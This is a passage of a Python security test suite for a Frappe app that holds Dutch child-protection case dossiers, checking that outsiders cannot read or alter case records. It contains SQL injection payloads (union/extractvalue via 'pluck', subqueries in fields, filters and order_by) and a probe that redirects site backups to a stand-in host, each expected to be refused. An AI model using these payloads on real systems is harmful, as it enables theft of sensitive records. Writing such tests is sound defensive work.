				("/api/resource/Meldcode School", "get"),
			)
		] + [
			probe(
				f"cmd on {path}",
				path,
				leaked,
				set(),
				http=http,
				admin=path == "/",
				cmd=state_count,
				**counted,
			)
			for path, http in (("/", "get"), ("/", "post"), ("/app", "get"), ("/printview", "get"))
		]
		probes += [
			probe("cmd in a JSON body", "/", leaked, set(), http="json", cmd=state_count, **counted),
			probe(
				"cmd on a private file",
				self.records.file_url,
				leaked,
				set(),
				admin=False,
				cmd=state_count,
				**counted,
			),
			# Positive controls: an allowed door named by cmd, on a page path and in a JSON body.
			probe(
				"get_list by cmd",
				"/",
				leaked,
				CASE_TEAM_B,
				http="post",
				cmd="frappe.client.get_list",
				**listed,
			),
			probe(
				"get_list by cmd in JSON",
				"/",
				leaked,
				CASE_TEAM_B,
				http="json",
				cmd="frappe.client.get_list",
				**listed,
			),
			probe(
				"get_list by its URL and the same cmd",
				"frappe.client.get_list",
				leaked,
				CASE_TEAM_B,
				http="post",
				cmd="frappe.client.get_list",
				**listed,
			),
		]
		self.run_class("the method Frappe runs", probes)

	def test_query_fragments_are_field_names_only(self):
		"""Subqueries and functions in every query fragment, however spaced or commented, at every
		list door, refused for every user (Administrator included); field names still pass."""
		leaked = lambda data: PUPIL in json.dumps(data, default=str)  # noqa: E731
		# Frappe 15.55 lets this through its own check (a permitted field first, tabs for spaces).
		subquery = "(select{s}group_concat(name,'|',pupil_name){s}from{s}`tabMeldcode Dossier`)"
		fragments = {
			"fields": lambda s: json.dumps(["name", f"{subquery.format(s=s)}{s}as{s}p"]),
			"order_by": lambda s: (
				f"if((select{s}count(*){s}from{s}`tabMeldcode Dossier`{s}where{s}pupil_name{s}like{s}'Testkind%')>0,name,creation)"
			),
			"filters": lambda s: json.dumps(
				[[f"name`{s}in{s}{subquery.format(s=s)}{s}or{s}`name", "=", "x"]]
			),
		}
		doors = (
			("frappe.client.get_list", "post"),
			("frappe.desk.reportview.get", "post"),
			("/api/resource/Meldcode School", "get"),
			("/api/v2/document/Meldcode School", "get"),
		)
		probes = [
			probe(
				f"{argument} through {door} spaced by {space!r}",
				door,
				leaked,
				set(),
				http=http,
				admin=False,
				**({} if door.startswith("/") else {"doctype": "Meldcode School"}),
				**{argument: make(space)},
			)
			for door, http in doors
			for argument, make in fragments.items()
			for space in (" ", "\t", "\n", "/**/")
		]
		school_b = SCHOOLS["B"][0]
		probes.append(
			probe(
				"plain field names through the same door (positive control)",
				"frappe.client.get_list",
				lambda data: school_b in json.dumps(data),
				set(users()) - {WEBSITE_USER},
				http="post",
				doctype="Meldcode School",
				fields='["`tabMeldcode School`.`name`", "count(`tabMeldcode School`.`name`) as n"]',
				group_by="`tabMeldcode School`.`name`",
				order_by="`tabMeldcode School`.`name` asc",
				filters=json.dumps({"name": school_b}),
			)
		)
		self.run_class("query fragments", probes)

	def test_refusals_tell_nothing_and_never_crash(self):
		r = self.records
		teacher_a = staff_user("A", "Teacher")

		def insert_signal(dossier):
			signal = {
				"doctype": "Meldcode Signal",
				"school": SCHOOLS["A"][0],
				"pupil_name": "Testkind Orakel",
				"signal_date": frappe.utils.today(),
				"signal_time": "10:15:00",
				"location": "Gymzaal",
				"situation": "Zag een blauwe plek.",
				"nature": "Fact",
				"dossier": dossier,
			}
			return self.call(teacher_a, "frappe.client.insert", "post", doc=signal)

		(existing_status, existing), (made_up_status, made_up) = (
			insert_signal(r.dossier),
			insert_signal("MD-BESTAAT-NIET"),
		)
		self.assertEqual(existing_status, made_up_status)
		self.assertEqual(
			str(existing).replace(r.dossier, "X"),
			str(made_up).replace("MD-BESTAAT-NIET", "X"),
			"another school's dossier and a made-up one are answered alike",
		)
		for user in users():
			status, answer = self.call(
				user,
				"frappe.www.printview.get_html_and_style",
				"post",
				doc="Meldcode Dossier",
				name=r.dossier,
			)
			self.assertNotEqual(status, 500, f"{user}: {answer}")
			self.assertEqual(
				status == 200 and PUPIL in json.dumps(answer),
				user in CASE_TEAM_B or user == "Administrator",
				f"{user}: HTTP {status}",
			)

	def test_the_ways_around_an_adversary_found(self):
		"""Found by an attack on the guard itself: an argument Frappe pastes into SQL (``pluck``), a
		record asked for by name at a record door, an upload that runs a method of its own, and a
		body that is neither JSON nor a form."""
		r = self.records
		leaked = lambda data: PUPIL[:20] in json.dumps(data, default=str)  # noqa: E731
		extract = f"(select pupil_name from `tabMeldcode Dossier` where name = '{r.dossier}')"
		probes = [
			probe(
				"pluck pasted into SQL",
				"frappe.desk.reportview.get",
				leaked,
				set(),
				http="post",
				admin=False,
				doctype="ToDo",
				pluck=f"name` from `tabToDo` where 1=0 union select extractvalue(1,concat(0x7e,{extract})) union select `name",
			)
			| {"errors_leak": True},
			probe(
				"a record by name (positive control: the case team)",
				"frappe.client.get",
				leaked,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				name=r.dossier,
			),
			probe(
				"an upload handing its file to a method",
				"upload_file",
				lambda data: True,
				set(),
				http="post",
				doctype="Meldcode Dossier",
				items=json.dumps([r.dossier]),
			),
		]
		probes[-1]["params"]["method"] = (
			"frappe.desk.reportview.delete_items"  # probe() takes `method` itself
		)
		self.run_class("ways around the guard", probes)
		for user in set(users()) - CASE_TEAM_B - {"Administrator"}:
			for door, params in (
				("frappe.desk.form.load.getdoc", {"doctype": "Meldcode Dossier"}),
				("/api/resource/Meldcode Dossier/{name}", {}),
				("frappe.client.get", {"doctype": "Meldcode Dossier"}),
			):
				answers = []
				for name in (r.dossier, "MD-BESTAAT-NIET"):
					path = door.format(name=name)
					status, answer = self.call(user, path, **({**params, "name": name} if params else {}))
					answers.append((status, str(answer).replace(name, "X")))
				self.assertEqual(answers[0], answers[1], f"{user} at {door}: an existing record told apart")
		for user in (staff_user("A", "Teacher"), staff_user("A", "Aandachtsfunctionaris")):
			answers = []
			for name in (r.signal, "MS-BESTAAT-NIET"):
				status, answer = self.call(
					user,
					"frappe.client.insert",
					"post",
					doc={
						"doctype": "Meldcode Conversation",
						"school": SCHOOLS["A"][0],
						"pupil_name": "Eigen leerling",
						"conversation_type": "Collegial Consultation",
						"conversation_date": frappe.utils.today(),
						"school_participants": [{"user": user, "part": "Leads"}],
						"goal": "x",
						"report": "y",
						"signals_discussed": [{"signal": name}],
					},
				)
				answers.append((status, str(answer).replace(name, "X")))
			self.assertNotEqual(answers[0][0], 200, f"{user} lists another school's signal in a verslag")
			self.assertEqual(answers[0], answers[1], f"{user}: a signal in a row told apart")
		app_methods = {
			"meldcode_app.api.start_acute_path": {},
			"meldcode_app.api.export_inspection_pdf": {},
			"meldcode_app.api.make_monitoring_report": {},
			"meldcode_app.api.answer_pupils_destruction_request": {
				"requested_on": "2026-01-05",
				"destroy": 0,
			},
		}
		for user in (staff_user("A", "Director"), staff_user("A", "Aandachtsfunctionaris"), BOARD_USER):
			for method, params in app_methods.items():
				answers = []
				for name in (r.dossier, "MD-BESTAAT-NIET"):
					status, answer = self.call(user, method, "post", dossier=name, **params)
					answers.append((status, str(answer).replace(name, "X")))
				self.assertEqual(
					answers[0], answers[1], f"{user} at {method}: an existing dossier told apart"
				)
			answers = []
			for name in (r.signal, "MS-BESTAAT-NIET"):
				status, answer = self.call(
					user, "meldcode_app.api.open_dossier_from_signals", "post", signals=json.dumps([name])
				)
				answers.append((status, str(answer).replace(name, "X")))
			self.assertEqual(
				answers[0], answers[1], f"{user} opening a dossier: an existing signal told apart"
			)
		status, answer = request_as(
			self.tokens[staff_user("A", "Teacher")],
			"/api/resource/ToDo",
			"text",
			body=json.dumps(
				{"description": "x", "reference_type": "Meldcode Dossier", "reference_name": r.dossier}
			),
		)
		self.assertIn(status, (403, 417), f"a text/plain body is judged too: {answer}")
		frappe.db.rollback()
		self.assertFalse(frappe.db.exists("ToDo", {"reference_name": r.dossier, "description": "x"}))

	def test_words_a_person_writes_are_never_refused(self):
		"""Other apps' users write about incidents and Veilig Thuis too: their own records save and
		their searches run; the request guard judges DocTypes where Frappe takes a DocType."""
		for user in (SYSTEM_MANAGER, staff_user("A", "Teacher")):
			for text in (
				"minor safety incident during gym class",
				"Veilig Thuis contact opgenomen",
				"Safety Incident",
			):
				status, answer = self.call(
					user,
					"frappe.client.insert",
					"post",
					doc={"doctype": "ToDo", "description": text, "allocated_to": user},
				)
				self.assertEqual(status, 200, f"{user} saving {text!r}: {answer}")
				frappe.db.rollback()
				frappe.db.delete("ToDo", {"name": answer["name"]})
				frappe.db.commit()
			status, answer = self.call(user, "frappe.utils.global_search.search", text="safety incident")
			self.assertEqual(status, 200, f"{user} searching: {answer}")

	def test_a_scoped_count_answers_zero_and_a_closed_door_403(self):
		status, message = self.call(
			staff_user("A", "Director"),
			"frappe.client.get_count",
			doctype="Meldcode Reported Fact",
			filters=[["fact", "like", "B%"]],
		)
		self.assertEqual(status, 200, "get_count is allowed but scoped for the case team's own schools")
		self.assertEqual(message, 0)
		status, _message = self.call(
			staff_user("A", "Director"),
			"frappe.workflow.doctype.workflow.workflow.get_workflow_state_count",
			doctype="Meldcode Dossier",
			workflow_state_field="pupil_name",
			states=[],
		)
		self.assertEqual(status, 403)

	def test_a_method_judged_by_its_name_is_not_run_by_another(self):
		"""Round 51: ERPNext's ``search_help.search`` is Frappe's global search imported under
		another name, which the app's override (looked up by name) did not reach: anyone logged in
		read a case's term ToDos. Another app's module does the same here when ERPNext is absent."""
		from frappe.utils import global_search

		if "erpnext" in frappe.get_installed_apps():
			alias = "erpnext.templates.pages.search_help.search"
		else:
			page = types.ModuleType("meldcode_app.tests.search_page_of_another_app")
			page.search = global_search.search
			sys.modules[page.__name__] = page
			alias = f"{page.__name__}.search"
		word = f"Zoekwoord{frappe.generate_hash(length=6)}"
		term = {
			"doctype": "ToDo",
			"allocated_to": staff_user("B", "Aandachtsfunctionaris"),
			"reference_type": "Meldcode Dossier",
			"reference_name": self.records.dossier,
		}
		frappe.get_doc({**term, "description": f"Termijn {word}"}).insert(ignore_permissions=True)
		# in the index as Frappe's rebuild of a DocType's rows puts it (the hourly job takes it out)
		global_search.rebuild_for_doctype("ToDo")
		# and a row Frappe left behind a ToDo deleted by a query: the search still answers
		gone = frappe.qb.Table("__global_search")
		frappe.qb.into(gone).columns("doctype", "name", "content", "title").insert(
			"ToDo", f"weg-{word}", f"Verdwenen {word}", ""
		).run()
		frappe.db.commit()
		try:
			found = lambda data: word in json.dumps(data)  # noqa: E731
			status, data = self.call(
				staff_user("B", "Aandachtsfunctionaris"), "frappe.utils.global_search.search", text=word
			)
			self.assertTrue(status == 200 and found(data), f"the positive control: {status} {data}")
			status, data = self.call(TEACHER_B, "frappe.utils.global_search.search", text=word)
			self.assertTrue(status == 200 and not found(data), f"{status} {data}")
			for user in (TEACHER_B, staff_user("B", "Aandachtsfunctionaris")):
				status, data = self.call(user, alias, text=word)
				self.assertEqual(status, 403, f"{user}: {data}")
			status, data = self.call(TEACHER_B, "frappe.handler.ping")
			self.assertEqual((status, data), (200, "pong"), "a method no rule names, by another name")
			# Round 52: Frappe ranked and limited before the permission check, so whether the
			# teacher's own ToDo (ranked below) came back told that a hidden one held the word.
			filler = " ".join(f"vul{number}" for number in range(80))
			control = frappe.get_doc(
				{"doctype": "ToDo", "description": f"controle {word} {filler}", "allocated_to": TEACHER_B}
			).insert(ignore_permissions=True)
			for _number in range(2):  # hidden ones made before and after it: Frappe's ranks tie
				frappe.get_doc({**term, "description": f"Termijn {word}"}).insert(ignore_permissions=True)
			global_search.sync_global_search()
			global_search.rebuild_for_doctype("ToDo")
			frappe.db.commit()
			status, data = self.call(
				TEACHER_B, "frappe.utils.global_search.search", text=word, limit=1, doctype="ToDo"
			)
			self.assertEqual([row["name"] for row in data], [control.name], f"{status} {data}")
		finally:
			for made in frappe.get_all("ToDo", {"description": ("like", f"%{word}%")}, pluck="name"):
				frappe.delete_doc("ToDo", made, ignore_permissions=True, force=True)
			frappe.db.delete("__global_search", {"content": ("like", f"%{word}%")})
			frappe.db.commit()

	def test_no_broadcast_or_review_tells_a_case_trace(self):
		"""Round 54: Frappe's realtime channel told every follower of the ToDo list the name of a
		case's term ToDo, Energy Points' review of it by that name put its text into the
		reviewer's notification, and someone taken off the team kept receiving a dossier's new
		comments in the room they had joined."""
		from frappe.social.doctype.energy_point_log.energy_point_log import add_review_points

		add_review_points(TEACHER_B, 0)  # as a System Manager may
		term = {
			"doctype": "ToDo",
			"description": "Termijn",
			"allocated_to": staff_user("B", "Aandachtsfunctionaris"),
		}
		case_todo = frappe.get_doc(
			{**term, "reference_type": "Meldcode Dossier", "reference_name": self.records.dossier}
		)
		own_todo = frappe.get_doc({**term, "allocated_to": TEACHER_B})
		frappe.local._realtime_log = []
		for todo in (case_todo, own_todo):
			todo.insert(ignore_permissions=True)
		told = [(event, message.get("name"), room) for event, message, room in frappe.local._realtime_log]
		self.assertIn(("list_update", own_todo.name, "doctype:ToDo"), told, "the control: another ToDo")
		self.assertFalse([t for t in told if t[1] == case_todo.name], told)
		frappe.local._realtime_log = []
		for reference_doctype, reference_name in (
			("Meldcode Dossier", self.records.dossier),
			("ToDo", own_todo.name),
		):
			frappe.get_doc(
				{
					"doctype": "Comment",
					"comment_type": "Comment",
					"reference_doctype": reference_doctype,
					"reference_name": reference_name,
					"content": "Vader heeft gedreigd",
				}
			).insert(ignore_permissions=True)
		rooms = [room for event, _message, room in frappe.local._realtime_log if event == "docinfo_update"]
		self.assertIn(f"doc:ToDo/{own_todo.name}", rooms, "the control: a comment on another record")
		self.assertFalse([room for room in rooms if "Meldcode" in room], rooms)
		frappe.db.commit()
		try:
			review = "frappe.social.doctype.energy_point_log.energy_point_log.review"
			arguments = {"points": 0, "to_user": TEACHER_B, "review_type": "Auto", "reason": "x"}
			status, answer = self.call(
				TEACHER_B, review, "post", doc={"doctype": "ToDo", "name": own_todo.name}, **arguments
			)
			self.assertEqual(status, 200, f"the positive control: a review of one's own ToDo: {answer}")
			for spelling in ("ToDo", "todo", "ToDo "):  # round 55: Frappe's link check writes ToDo back
				status, answer = self.call(
					TEACHER_B, review, "post", doc={"doctype": spelling, "name": case_todo.name}, **arguments
				)
				self.assertEqual(status, 403, f"{spelling!r}: {answer}")
		finally:
			frappe.db.delete("Energy Point Log", {"reference_name": ("in", (own_todo.name, case_todo.name))})
			frappe.db.delete("Comment", {"content": "Vader heeft gedreigd"})
			for todo in (case_todo, own_todo):
				frappe.delete_doc("ToDo", todo.name, ignore_permissions=True, force=True)
			frappe.db.commit()

	def test_a_save_of_a_case_record_is_announced_to_its_writer_only(self):
		"""Round 58: Frappe's socket server checks a document's room only when someone joins it, and
		someone taken off the case team kept hearing of each save of the dossier they had open."""
		writer = staff_user("B", "Intern Begeleider")
		own_todo = frappe.get_doc({"doctype": "ToDo", "description": "Eigen taak", "allocated_to": writer})
		own_todo.insert(ignore_permissions=True)
		frappe.local._realtime_log = []
		with self.set_user(writer):
			for doc in (frappe.get_doc("Meldcode Dossier", self.records.dossier), own_todo):
				doc.save()
		told = {
			(message.get("name"), room)
			for event, message, room in frappe.local._realtime_log
			if event == "doc_update"
		}
		frappe.local._realtime_log = []
		self.assertIn(
			(own_todo.name, f"doc:ToDo/{own_todo.name}"), told, "the control: another record's room"
		)
		self.assertEqual(
			{room for name, room in told if name == self.records.dossier}, {f"user:{writer}"}, told
		)

	def test_what_is_kept_about_a_case_trace_stays_with_the_case(self):
		"""Round 55: a System Manager without a school read a case comment's old and new text in
		its Version, a dossier's deleted Like, a term ToDo's text through an Energy Point Rule's
		log and through a review spelled "todo", followed the ToDo list's names, and read a
		director's OAuth tokens and an OAuth client's secret."""
		dossier = self.records.dossier
		frappe.local.meldcode_other_apps = None
		made = []
		try:
			for reference_doctype, reference_name in (
				("Meldcode Dossier", dossier),
				("Note", frappe.get_doc({"doctype": "Note", "title": "Proefnotitie"}).insert().name),
			):
				comment = frappe.get_doc(
					{
						"doctype": "Comment",
						"comment_type": "Comment",
						"reference_doctype": reference_doctype,
						"reference_name": reference_name,
						"content": f"Eerste tekst {reference_doctype}",
					}
				).insert(ignore_permissions=True)
				comment.content = f"Tweede tekst {reference_doctype}"
				comment.save(ignore_permissions=True, ignore_version=False)  # as outside tests
				made.append(comment.name)
			frappe.db.commit()
			for doctype, field in (("Version", "docname"), ("Deleted Document", "deleted_name")):
				if doctype == "Deleted Document":
					for name in made:
						frappe.delete_doc("Comment", name, ignore_permissions=True, force=True)
					frappe.db.commit()
				found = self.listed(SYSTEM_MANAGER, doctype, field, made)
				self.assertIn(made[1], found, f"{doctype}: the control, a note's comment")
				self.assertNotIn(made[0], found, doctype)

			status, _answer = self.call(
				SYSTEM_MANAGER, "frappe.realtime.can_subscribe_doctype", doctype="Note"
			)
			self.assertEqual(status, 200, "the control: following another list")
			for doctype in ("ToDo", "Version", "comment"):
				status, answer = self.call(
					SYSTEM_MANAGER, "frappe.realtime.can_subscribe_doctype", doctype=doctype
				)
				self.assertEqual(status, 403, f"{doctype}: {answer}")

			secret = "frappe.client.get_password"
			arguments = {"doctype": "User", "name": SYSTEM_MANAGER, "fieldname": "new_password"}
			self.assertNotEqual(
				self.call("Administrator", secret, "post", **arguments)[0], 403, "the control"
			)
			self.assertEqual(self.call(SYSTEM_MANAGER, secret, "post", **arguments)[0], 403)
			client = frappe.get_doc(
				{
					"doctype": "OAuth Client",
					"app_name": "Proefkoppeling",
					"default_redirect_uri": "http://x.test/cb",
				}
			).insert(ignore_permissions=True)
			made.append(client.name)
			frappe.db.commit()
			for user, seen in (("Administrator", True), (SYSTEM_MANAGER, False)):
				status, rows = self.call(
					user,
					"frappe.client.get_list",
					doctype="OAuth Client",
					fields=["client_secret"],
					filters={"name": client.name},
				)
				self.assertEqual(client.client_secret in json.dumps(rows), seen, f"{user}: {status} {rows}")
		finally:
			frappe.db.delete("OAuth Client", {"name": ("in", made)})
			frappe.db.delete("Note", {"title": "Proefnotitie"})
			frappe.db.commit()

	def test_what_is_kept_about_a_trace_of_a_case_trace_stays_with_the_case(self):
		"""Round 56: a comment on a case's ToDo, edited, left its text in a Version; a label on the
		ToDo copied its text into a Tag Link every user lists; a Milestone Tracker on ToDo copied it
		into Milestones; a System Manager sent the site's backup to their own S3 server."""
		from frappe.desk.doctype.tag.tag import DocTags

		term = {"doctype": "ToDo", "allocated_to": staff_user("B", "Intern Begeleider")}
		tracker = frappe.get_doc(
			{"doctype": "Milestone Tracker", "document_type": "ToDo", "track_field": "description"}
		).insert(ignore_permissions=True)
		todos = [
			frappe.get_doc({**term, "description": "Bel vader", **reference}).insert(ignore_permissions=True)
			for reference in (
				{"reference_type": "Meldcode Dossier", "reference_name": self.records.dossier},
				{},
			)
		]
		comments = []
		for todo in todos:
			if todo.reference_type:  # no label on a case's ToDo (round 207): one from before
				self.assertRaises(frappe.PermissionError, DocTags("ToDo").add, todo.name, "bellen")
				frappe.get_doc(
					{
						"doctype": "Tag Link",
						"document_type": "ToDo",
						"document_name": todo.name,
						"tag": "bellen",
						"title": todo.description,
					}
				).db_insert()
			else:
				DocTags("ToDo").add(todo.name, "bellen")
			comment = frappe.get_doc(
				{
					"doctype": "Comment",
					"comment_type": "Comment",
					"reference_doctype": "ToDo",
					"reference_name": todo.name,
					"content": "Eerste",
				}
			).insert(ignore_permissions=True)
			comment.content = "Tweede"
			comment.save(ignore_permissions=True, ignore_version=False)
			comments.append(comment.name)
		frappe.db.commit()
		try:
			for doctype, field, names in (
				("Version", "docname", comments),
				("Tag Link", "document_name", [t.name for t in todos]),
				("Milestone", "reference_name", [t.name for t in todos]),
			):
				found = self.listed(SYSTEM_MANAGER, doctype, field, names)
				self.assertEqual(found, {names[1]}, f"{doctype}: the other ToDo's only")
			settings = {
				"doctype": "S3 Backup Settings",
				"name": "S3 Backup Settings",
				"fieldname": "endpoint_url",
			}
			status, answer = self.call(
				SYSTEM_MANAGER, "frappe.client.set_value", "post", value="http://x.test", **settings
			)
			self.assertEqual(status, 403, answer)
			# Round 57: rules Frappe runs on every file or workflow action, a case's too.
			naming = {"doctype": "Document Naming Rule", "prefix": "F-", "prefix_digits": 4}
			for doc in (
				{**naming, "document_type": "File"},
				{**naming, "document_type": "workflow action"},
				{
					"doctype": "Assignment Rule",
					"name": "Meldcode proefregel",
					"document_type": "File",
					"assign_condition": "1",
					"rule": "Round Robin",
					"users": [{"user": "Administrator"}],
				},
			):
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=doc)
				self.assertEqual(status, 403, f"{doc}: {answer}")
			status, answer = self.call(
				SYSTEM_MANAGER, "frappe.client.insert", "post", doc={**naming, "document_type": "Note"}
			)
			self.assertEqual(status, 200, f"the positive control: a rule on notes: {answer}")
			frappe.delete_doc("Document Naming Rule", answer["name"], force=True)
			older = frappe.get_doc({**naming, "document_type": "File"})
			older.db_insert()  # as set up before the rule, by a System Manager
			older.db_set("owner", SYSTEM_MANAGER)
			from meldcode_app.patches import no_rules_on_traces

			no_rules_on_traces.execute()
			self.assertEqual(frappe.db.get_value("Document Naming Rule", older.name, "disabled"), 1)
			frappe.delete_doc("Document Naming Rule", older.name, force=True)
			frappe.db.commit()
			backup = "frappe.integrations.doctype.s3_backup_settings.s3_backup_settings.take_backups_s3"
			self.assertEqual(self.call(SYSTEM_MANAGER, backup, "post")[0], 403)
			status, answer = self.call(
				SYSTEM_MANAGER,
				"frappe.client.set_value",
				"post",
				doctype="ToDo",
				name=todos[1].name,
				fieldname="description",
				value="Bel vader terug",
			)
			self.assertEqual(status, 200, f"the positive control: the same door on another record: {answer}")
		finally:
			frappe.db.delete("Milestone", {"milestone_tracker": tracker.name})
			frappe.delete_doc("Milestone Tracker", tracker.name, ignore_permissions=True, force=True)
			frappe.db.delete("Tag Link", {"document_name": ("in", [t.name for t in todos])})
			frappe.db.delete("Version", {"docname": ("in", comments)})
			frappe.db.delete("Comment", {"name": ("in", comments)})
			frappe.db.delete("ToDo", {"name": ("in", [t.name for t in todos])})
			frappe.db.commit()

	def test_a_trace_named_alone_is_judged_as_that_trace(self):
		"""Round 60: Frappe's methods take a record by its name alone too, the DocType implied:
		``unzip_file`` answered any desk user and a parent's account with a case file's name, and
		``frappe.email.relink`` moved a case's e-mail onto a record of the sender's own."""
		named = lambda data: "bijlage-dossier-b" in json.dumps(data)  # noqa: E731
		unzip = probe(
			"a case file's name through unzip_file",
			"frappe.core.api.file.unzip_file",
			named,
			CASE_TEAM_B,
			"post",
			name=self.records.file,
		)
		self.run_class("traces by name alone", [{**unzip, "errors_leak": True}])
		mails = []
		for reference in ("Meldcode Dossier", None):
			mail = frappe.get_doc(
				{
					"doctype": "Communication",
					"communication_medium": "Email",
					"subject": "Moeder belde over de blauwe plek",
					"reference_doctype": reference,
					"reference_name": self.records.dossier if reference else None,
				}
			)
			mails.append(mail.insert(ignore_permissions=True).name)
		frappe.db.commit()
		try:
			# Round 64: the name padded past the name column with spaces, which the database ignores.
			padded = " " * 150
			for user in (TEACHER_A, TEACHER_B, BOARD_USER, SYSTEM_MANAGER, ROLE_WITHOUT_SCHOOL, WEBSITE_USER):
				moved = {"reference_doctype": "User", "reference_name": user}
				for name in (mails[0], mails[0] + padded):
					status, answer = self.call(user, "frappe.email.relink", "post", name=name, **moved)
					self.assertEqual(status, 403, f"{user}: {answer}")
			self.assertEqual(
				frappe.db.get_value("Communication", mails[0], "reference_name"), self.records.dossier
			)
			moved = {"reference_doctype": "User", "reference_name": SYSTEM_MANAGER}
			status, answer = self.call(
				SYSTEM_MANAGER, "frappe.email.relink", "post", name=mails[1] + padded, **moved
			)
			self.assertEqual(status, 200, f"the positive control: a mail about no case: {answer}")
			frappe.db.rollback()
			self.assertEqual(frappe.db.get_value("Communication", mails[1], "reference_name"), SYSTEM_MANAGER)
		finally:
			frappe.db.delete("Communication", {"name": ("in", mails)})
			frappe.db.commit()

	def test_a_like_of_a_case_comment_is_the_case_teams(self):
		"""Round 61: Frappe's toggle_like checks no permission: a System Manager with no school
		liked a case's comment and term ToDo, which wrote into the case's timeline."""
		comments = []
		for doctype, name in (("Meldcode Dossier", self.records.dossier), ("User", SYSTEM_MANAGER)):
			comment = {"comment_type": "Comment", "reference_doctype": doctype, "reference_name": name}
			comments.append(frappe.get_doc({"doctype": "Comment", **comment, "content": "Moeder belde."}))
			comments[-1].insert(ignore_permissions=True)
		frappe.db.commit()
		member = staff_user("B", "Aandachtsfunctionaris")
		like = "frappe.desk.like.toggle_like"
		try:
			for user in (SYSTEM_MANAGER, TEACHER_A, TEACHER_B, BOARD_USER, WEBSITE_USER):
				status, answer = self.call(
					user, like, "post", doctype="Comment", name=comments[0].name, add="Yes"
				)
				self.assertEqual(status, 403, f"{user}: {answer}")
			frappe.db.rollback()
			self.assertFalse(frappe.db.get_value("Comment", comments[0].name, "_liked_by"))
			for user, comment in ((member, comments[0]), (SYSTEM_MANAGER, comments[1])):
				status, answer = self.call(
					user, like, "post", doctype="Comment", name=comment.name, add="Yes"
				)
				self.assertEqual(status, 200, f"the positive control: {user}: {answer}")
				frappe.db.rollback()
				self.assertIn(user, frappe.db.get_value("Comment", comment.name, "_liked_by"))
		finally:
			names = [comment.name for comment in comments]
			frappe.db.delete("Comment", {"reference_name": ("in", names)})
			frappe.db.delete("Comment", {"name": ("in", names)})
			frappe.db.commit()

	def test_no_mail_lands_on_a_case_by_its_address(self):
		"""Round 61: with an Email Account's automatic linking on, a mail to
		"school+Meldcode Dossier=MD-…@…" from any user (and any stranger) landed on the dossier's
		timeline, and the answer told whether the dossier existed; a mail about a case took timeline
		links to its Contacts, whose timelines Frappe reads past permissions."""
		account = frappe.get_doc(
			{
				"doctype": "Email Account",
				"email_account_name": "Meldcode Proefpostbus",
				"email_id": "school@meldcode.test",
				"enable_automatic_linking": 1,
			}
		)
		account.db_insert()  # set up by the bench's Administrator (its own checks want a mail server)
		note = frappe.get_doc({"doctype": "Note", "title": "Proefnotitie post"}).insert()
		contact = frappe.get_doc(
			{
				"doctype": "Contact",
				"first_name": "Ouder",
				"email_ids": [{"email_id": "ouder.post@meldcode.test"}],
			}
		).insert()
		frappe.db.commit()
		made = []

		def mail(user, doctype, name):
			status, answer = self.call(
				user,
				"frappe.core.doctype.communication.email.make",
				"post",
				recipients=f"school+{doctype.replace(' ', '%20')}={name}@meldcode.test",
				subject="Besluit: dossier sluiten",
				content="Vals bericht",
				send_email=0,
			)
			made.append((answer or {}).get("name"))
			return (
				status,
				frappe.db.get_value("Communication", made[-1], ["reference_doctype", "reference_name"]),
				frappe.get_all("Communication Link", {"parent": made[-1]}, pluck="link_doctype"),
			)

		try:
			for user in (TEACHER_A, SYSTEM_MANAGER):
				for name in (self.records.dossier, "MD-2099-99999"):
					status, reference, links = mail(user, "Meldcode Dossier", name)
					self.assertEqual(status, 200, f"{user}, {name}: the same answer whether it exists")
					self.assertNotEqual(reference, ("Meldcode Dossier", name))
					self.assertNotIn("Meldcode Dossier", links)
			status, reference, links = mail(SYSTEM_MANAGER, "Note", note.name)
			self.assertEqual(reference, ("Note", note.name), "the control: linking is on")
			self.assertIn("Note", links)
			for reference_doctype, name in (("Meldcode Dossier", self.records.dossier), ("Note", note.name)):
				about = frappe.get_doc(
					{
						"doctype": "Communication",
						"communication_medium": "Email",
						"sent_or_received": "Received",
						"sender": "ouder.post@meldcode.test",
						"subject": "Sam vertelde over thuis",
						"reference_doctype": reference_doctype,
						"reference_name": name,
					}
				).insert(ignore_permissions=True)
				made.append(about.name)
				linked = frappe.get_all("Communication Link", {"parent": about.name}, pluck="link_name")
				self.assertEqual(contact.name in linked, reference_doctype == "Note", reference_doctype)
			from meldcode_app.patches import case_mail_unlinked

			stray = frappe.get_doc(
				{
					"doctype": "Communication Link",
					"parent": made[-1],
					"parenttype": "Communication",
					"parentfield": "timeline_links",
					"link_doctype": "Meldcode Dossier",
					"link_name": self.records.dossier,
				}
			)
			stray.db_insert()  # as linked before the rule
			case_mail_unlinked.execute()
			self.assertFalse(frappe.db.exists("Communication Link", stray.name))
			kept = {"parent": made[-1], "link_name": contact.name}
			self.assertTrue(frappe.db.exists("Communication Link", kept), "the note's mail keeps its contact")
		finally:
			frappe.db.rollback()
			frappe.db.delete("Communication", {"name": ("in", [name for name in made if name])})
			frappe.db.delete("Communication Link", {"parent": ("in", [name for name in made if name])})
			for doctype, name in (
				("Email Account", account.name),
				("Note", note.name),
				("Contact", contact.name),
			):
				frappe.delete_doc(doctype, name, force=True, ignore_permissions=True)
			frappe.db.commit()

	def test_the_next_record_starts_from_one_its_reader_may_read(self):
		"""Round 62: Frappe's get_next reads the record it starts from with no permission check and
		lists from its field's value: started from school B's dossier, school A's director learnt
		where its pupil's name stood among their own; from a case's ToDo, its text."""
		todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier, "description": "Termijn"})
		start = {"prev": 0, "sort_order": "asc"}
		for user, doctype, value, sort_field in (
			(staff_user("A", "Director"), "Meldcode Dossier", self.records.dossier, "pupil_name"),
			(SYSTEM_MANAGER, "ToDo", todo, "description"),
		):
			arguments = {**start, "doctype": doctype, "value": value, "sort_field": sort_field}
			status, answer = self.call(user, "frappe.desk.form.utils.get_next", **arguments)
			self.assertEqual(status, 403, f"{user}: {answer}")
		arguments = {
			**start,
			"doctype": "Meldcode Dossier",
			"value": self.records.dossier,
			"sort_field": "pupil_name",
		}
		status, answer = self.call(
			staff_user("B", "Director"), "frappe.desk.form.utils.get_next", **arguments
		)
		self.assertEqual(status, 200, f"the positive control: the case team: {answer}")
		arguments = {
			**start,
			"doctype": "ToDo",
			"value": own_todo(SYSTEM_MANAGER),
			"sort_field": "description",
		}
		status, answer = self.call(SYSTEM_MANAGER, "frappe.desk.form.utils.get_next", **arguments)
		self.assertEqual(status, 200, f"the positive control: one's own ToDo: {answer}")

	def test_the_apps_permissions_shares_and_workspaces_stay_as_the_app_set_them(self):
